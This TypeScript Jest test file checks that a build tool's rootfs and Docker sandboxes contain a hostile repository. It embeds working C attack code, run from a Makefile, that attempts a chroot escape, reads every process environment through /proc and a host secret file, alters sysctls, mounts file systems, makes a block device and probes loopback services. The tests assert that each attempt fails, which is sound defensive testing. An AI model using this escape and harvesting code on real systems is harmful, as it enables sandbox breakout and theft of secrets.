/**
 * A hostile repository, built for real (rules strategy): its Makefile runs a program that tries what issue 11
 * reproduced on the unshare + chroot sandbox — the classic chroot escape, the host's /proc (and the environment
 * of the buildbench process through it), host sysctls, a fresh sysfs, a block device node, a service on this
 * machine's loopback — and then builds a real binary, so the run itself succeeds. None of it may reach this
 * machine: the tests check the host, not the sandbox's own account of itself.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { runBuild } from '../../src/core/run-build.js';
import { sandboxSettingsFrom, type BuildSettings } from '../../src/core/settings.js';
import { createSandboxCgroups, sweepStaleCgroups } from '../../src/sandbox/isolation.js';
import { createRootfsSandbox } from '../../src/sandbox/rootfs.js';
import type { SandboxChoice } from '../../src/sandbox/types.js';
import {
  ensureTestDockerImage,
  hostMountsUnder,
  makeFixtureRepo,
  sandboxBackendsHere,
  sandboxTestSettings,
  TEST_DOCKER_IMAGE,
} from '../helpers/sandbox.js';

const { rootfsUnavailable: unavailable, dockerUp } = await sandboxBackendsHere();
if (unavailable) console.warn(`skipping the hostile-build tests: ${unavailable}`);
const backends: SandboxChoice[] = [
  ...(unavailable ? [] : (['rootfs'] as const)),
  ...(dockerUp ? (['docker'] as const) : []),
];

const tag = randomBytes(6).toString('hex');
/** A variable of this process with an ordinary name (no redactor masks it): only isolation keeps it in. */
const ENV_NAME = 'BB_HOSTILE_PROBE';
const ENV_VALUE = `env-value-${tag}`;
const SECRET = `host-secret-${tag}`;

let hostDir: string;
let server: Server;
let port = 0;
let connections = 0;
let swappinessBefore = '';
const outRoot = path.join(tmpdir(), `bb-hostile-${tag}`);

/** The attacker: every attempt prints one `NAME=result` line; nothing it does makes the build fail. */
function attackSource(): string {
  return `#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>

static void dump(const char *path) {
  char buf[65536];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return;
  for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = '\\n';
  buf[n] = 0;
  printf("DUMP %s\\n%s\\n", path, buf);
}

static void try_connect(const char *ip) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(${'${PORT}'}) };
  inet_pton(AF_INET, ip, &a.sin_addr);
  struct timeval tv = { .tv_sec = 2 };
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
    char buf[128] = {0};
    read(s, buf, sizeof buf - 1);
    printf("CONNECT %s=ok %s\\n", ip, buf);
  } else printf("CONNECT %s=fail %s\\n", ip, strerror(errno));
  close(s);
}

int main(void) {
  /* the classic chroot escape */
  mkdir("jail", 0755);
  int c1 = chroot("jail");
  for (int i = 0; i < 256; i++) chdir("..");
  int c2 = chroot(".");
  printf("CHROOT=%d,%d\\n", c1, c2);
  FILE *f = fopen("${'${HOSTDIR}'}/escaped", "w");
  printf("WRITE_HOST_DIR=%s\\n", f ? "ok" : "fail");
  if (f) fclose(f);
  f = fopen("/tmp/bb-escaped-${tag}", "w");
  if (f) fclose(f);
  f = fopen("/root/bb-escaped-${tag}", "w");
  if (f) fclose(f);
  dump("${'${HOSTDIR}'}/secret.txt");
  /* every process's environment this /proc shows */
  DIR *d = opendir("/proc");
  struct dirent *e;
  int seen = 0;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char p[300];
    snprintf(p, sizeof p, "/proc/%s/environ", e->d_name);
    dump(p);
    seen++;
  }
  if (d) closedir(d);
  printf("PROCS=%d\\n", seen);
  /* host kernel settings, a fresh sysfs, a block device */
  int fd = open("/proc/sys/vm/swappiness", O_WRONLY);
  printf("SYSCTL=%s\\n", fd >= 0 && write(fd, "17", 2) == 2 ? "ok" : "fail");
  if (fd >= 0) close(fd);
  mkdir("/tmp/sysfs", 0755);
  printf("MOUNT_SYSFS=%s\\n", mount("sysfs", "/tmp/sysfs", "sysfs", 0, 0) == 0 ? "ok" : "fail");
  printf("MOUNT_PROC=%s\\n", mount("proc", "/tmp/sysfs", "proc", 0, 0) == 0 ? "ok" : "fail");
  printf("MKNOD=%s\\n", mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0)) == 0 ? "ok" : "fail");
  printf("UNSHARE=%s\\n", unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 ? "ok" : "fail");
  /* services on this machine's loopback */
  try_connect("127.0.0.1");
  try_connect("10.0.2.2");
  return 0;
}
`;
}

async function writeHostileRepo(dir: string): Promise<void> {
  await mkdir(dir, { recursive: true });
  const source = attackSource().replaceAll('${PORT}', String(port)).replaceAll('${HOSTDIR}', hostDir);
  await writeFile(path.join(dir, 'attack.c'), source);
  await writeFile(
    path.join(dir, 'hello.c'),
    '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n',
  );
  await writeFile(
    path.join(dir, 'Makefile'),
    'all: hello\n\nattack: attack.c\n\tcc -o attack attack.c\n\nhello: hello.c attack\n\t./attack\n\tcc -o hello hello.c\n',
  );
}

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, entry.name);
    if (entry.isDirectory()) out.push(...filesUnder(p));
    else if (entry.isFile()) out.push(p);
  }
  return out;
}

beforeAll(async () => {
  hostDir = await mkdtemp(path.join(tmpdir(), 'bb-host-'));
  await writeFile(path.join(hostDir, 'secret.txt'), `${SECRET}\n`);
  process.env[ENV_NAME] = ENV_VALUE;
  server = createServer((socket) => {
    connections++;
    socket.end(`HOSTSERVICE-${tag}\n`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
  swappinessBefore = readFileSync('/proc/sys/vm/swappiness', 'utf8');
  if (backends.includes('docker')) await ensureTestDockerImage();
}, 600_000);

afterAll(async () => {
  delete process.env[ENV_NAME];
  await new Promise<void>((resolve) => server.close(() => resolve()));
  await rm(hostDir, { recursive: true, force: true });
  await rm(outRoot, { recursive: true, force: true });
  if (!unavailable) expect(hostMountsUnder(sandboxTestSettings('rootfs').workRoot)).toEqual([]);
});

(backends.length > 0 ? describe.each(backends) : describe.skip.each<SandboxChoice>(['rootfs']))(
  'a hostile build in the %s sandbox',
  (backend) => {
    let outDir: string;
    let log: string;
    let result: Awaited<ReturnType<typeof runBuild>>;

    beforeAll(async () => {
      const repo = path.join(outRoot, `repo-${backend}`);
      await writeHostileRepo(repo);
      outDir = path.join(outRoot, `out-${backend}`);
      const settings: BuildSettings = {
        source: repo,
        outDir,
        strategy: 'rules',
        maxTurns: 3,
        timeoutMs: 10 * 60_000,
        turnTimeoutMs: 5 * 60_000,
        expect: ['hello'],
        json: false,
        keep: false,
        sandbox: {
          ...sandboxSettingsFrom(process.env, backend, backend === 'docker' ? TEST_DOCKER_IMAGE : undefined),
          network: 'isolated',
        },
      };
      result = await runBuild(settings);
      log = readFileSync(path.join(outDir, 'logs', 'turn-00.log'), 'utf8');
    }, 600_000);

    it('still builds, and reports the isolation it had', () => {
      expect(result.status).toBe('success');
      expect(log).toMatch(/^CHROOT=/m);
      expect(result.sandbox.isolation).toMatchObject({ level: 'container', network: { mode: 'isolated' } });
    });

    it('never reaches the host file system: no file appears outside the work directory', () => {
      expect(log).toMatch(/^WRITE_HOST_DIR=fail$/m);
      expect(existsSync(path.join(hostDir, 'escaped'))).toBe(false);
      expect(existsSync(`/tmp/bb-escaped-${tag}`)).toBe(false);
      expect(existsSync(`/root/bb-escaped-${tag}`)).toBe(false);
      expect(readdirSync(hostDir)).toEqual(['secret.txt']);
    });

    it('sees only its own processes: no host secret and no value of the parent environment in any output file', () => {
      const procs = Number(/^PROCS=(\d+)$/m.exec(log)?.[1] ?? 'NaN');
      expect(procs).toBeGreaterThan(0);
      expect(procs).toBeLessThan(20);
      for (const file of filesUnder(outDir)) {
        const text = readFileSync(file, 'latin1');
        expect([file, text.includes(SECRET)]).toEqual([file, false]);
        expect([file, text.includes(ENV_VALUE)]).toEqual([file, false]);
      }
    });

    it('cannot change host kernel settings, mount file systems, make block devices or new user namespaces', () => {
      expect(log).toMatch(/^SYSCTL=fail$/m);
      expect(readFileSync('/proc/sys/vm/swappiness', 'utf8')).toBe(swappinessBefore);
      expect(log).toMatch(/^MOUNT_SYSFS=fail$/m);
      expect(log).toMatch(/^MOUNT_PROC=fail$/m);
      expect(log).toMatch(/^MKNOD=fail$/m);
      expect(log).toMatch(/^UNSHARE=fail$/m);
    });

    it('cannot reach a service on this machine’s loopback under --network isolated', () => {
      expect(log).toMatch(/^CONNECT 127\.0\.0\.1=fail/m);
      expect(log).toMatch(/^CONNECT 10\.0\.2\.2=fail/m);
      expect(log).not.toContain(`HOSTSERVICE-${tag}`);
      expect(connections).toBe(0);
    });
  },
);

(unavailable ? describe.skip : describe)('rootfs sandbox limits and network modes', () => {
  let repo: string;
  beforeAll(async () => {
    repo = await makeFixtureRepo();
  });
  afterAll(async () => {
    await rm(repo, { recursive: true, force: true });
  });

  it('enforces the process and memory limits (cgroups) and says so', async () => {
    const sandbox = await createRootfsSandbox(
      { ...sandboxTestSettings('rootfs'), pids: 64, memoryBytes: 256 * 1024 ** 2, network: 'none' },
      { repoDir: repo, name: 'limits' },
    );
    try {
      expect(sandbox.isolation.limits).toMatchObject({ pids: 64, memoryBytes: 256 * 1024 ** 2 });
      if (!sandbox.isolation.limits.enforced) {
        console.warn(`limits not enforced here: ${sandbox.isolation.notes.join('; ')}`);
        return;
      }
      const forks = await sandbox.exec(
        'n=0; for i in $(seq 200); do sleep 5 & n=$((n+1)); done 2>/dev/null; jobs -p | wc -l; kill $(jobs -p) 2>/dev/null; true',
        { timeoutMs: 60_000 },
      );
      expect(Number(forks.output.trim().split('\n').pop())).toBeLessThan(64);
      const memory = await sandbox.exec('python3 -c "b = bytearray(600 * 1024 * 1024); print(len(b))"', {
        timeoutMs: 60_000,
      });
      expect(memory.exitCode).not.toBe(0);
      expect(memory.output).not.toContain(String(600 * 1024 * 1024));
    } finally {
      await sandbox.dispose();
    }
  });

  it('sweeps the cgroups a killed run left, and a live sandbox makes its own again', async () => {
    const sandbox = await createRootfsSandbox(
      { ...sandboxTestSettings('rootfs'), pids: 64, network: 'none' },
      { repoDir: repo, name: 'cgroup-sweep' },
    );
    try {
      if (!sandbox.isolation.limits.enforced) return;
      const left = await createSandboxCgroups(`left-behind-${tag}`, { pids: 10 });
      const dirs = [...(left.cgroups?.dirs ?? [])];
      expect(dirs.length).toBeGreaterThan(0);
      expect(await sweepStaleCgroups(0)).toBeGreaterThanOrEqual(dirs.length);
      for (const dir of dirs) expect(existsSync(dir)).toBe(false);
      // the sweep also took this idle sandbox's cgroups: its next command has them again, limit included
      const forks = await sandbox.exec(
        'for i in $(seq 100); do sleep 5 & done 2>/dev/null; jobs -p | wc -l; kill $(jobs -p) 2>/dev/null; true',
        { timeoutMs: 60_000 },
      );
      expect(Number(forks.output.trim().split('\n').pop())).toBeLessThan(64);
    } finally {
      await sandbox.dispose();
    }
  });

  it('--network none leaves only loopback; host shares this machine’s network', async () => {
    const none = await createRootfsSandbox(
      { ...sandboxTestSettings('rootfs'), network: 'none' },
      { repoDir: repo, name: 'net-none' },
    );
    try {
      const r = await none.exec('tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "', { timeoutMs: 30_000 });
      expect(r.output.trim().split('\n')).toEqual(['lo']);
      expect(none.isolation.network.mode).toBe('none');
      expect(none.isolation.capabilities).toContain('NET_RAW');
    } finally {
      await none.dispose();
    }
    const host = await createRootfsSandbox(
      { ...sandboxTestSettings('rootfs'), network: 'host' },
      { repoDir: repo, name: 'net-host' },
    );
    try {
      expect(host.isolation.network.mode).toBe('host');
      expect(host.isolation.capabilities).not.toContain('NET_RAW');
      const r = await host.exec('grep -c : /proc/net/dev', { timeoutMs: 30_000 });
      expect(Number(r.output.trim())).toBe(
        readFileSync('/proc/net/dev', 'utf8')
          .split('\n')
          .filter((l) => l.includes(':')).length,
      );
    } finally {
      await host.dispose();
    }
  });

  it('keeps no descriptor of this process open inside', async () => {
    const sandbox = await createRootfsSandbox(sandboxTestSettings('rootfs'), { repoDir: repo, name: 'fds' });
    try {
      const r = await sandbox.exec('ls /proc/self/fd', { timeoutMs: 30_000 });
      // 0-2, and the descriptor ls opened to read the folder
      expect(r.output.trim().split('\n').map(Number).sort()).toEqual([0, 1, 2, 3]);
      const status = await sandbox.exec('grep -E "^(NoNewPrivs|Seccomp):" /proc/self/status', {
        timeoutMs: 30_000,
      });
      expect(status.output).toMatch(/NoNewPrivs:\s+1/);
      expect(status.output).toMatch(/Seccomp:\s+2/);
      expect(statSync(sandbox.buildDir).isDirectory()).toBe(true);
    } finally {
      await sandbox.dispose();
    }
  });
});
